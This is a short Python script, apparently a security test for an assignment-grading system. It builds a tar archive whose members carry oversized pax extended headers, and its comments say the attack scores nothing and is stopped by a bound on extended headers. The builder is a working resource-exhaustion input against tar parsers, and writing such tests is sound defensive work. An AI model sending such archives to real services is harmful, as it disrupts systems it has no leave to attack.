# attack: a pax header of half a million records, for every member of many
# earns: 0
# stopped by: the bound on extended headers
import tarfile
from pathlib import Path


def build(path: Path) -> None:
    content = b"9 a=bcde\n" * ((1 << 20) // 9)
    content += bytes(-len(content) % 512)
    member = tarfile.TarInfo("x")
    member.type, member.size = tarfile.XHDTYPE, len(content)
    header = member.tobuf(tarfile.USTAR_FORMAT)
    path.write_bytes((header + content + tarfile.TarInfo("hw3/gru.py").tobuf()) * 20 + bytes(1024))
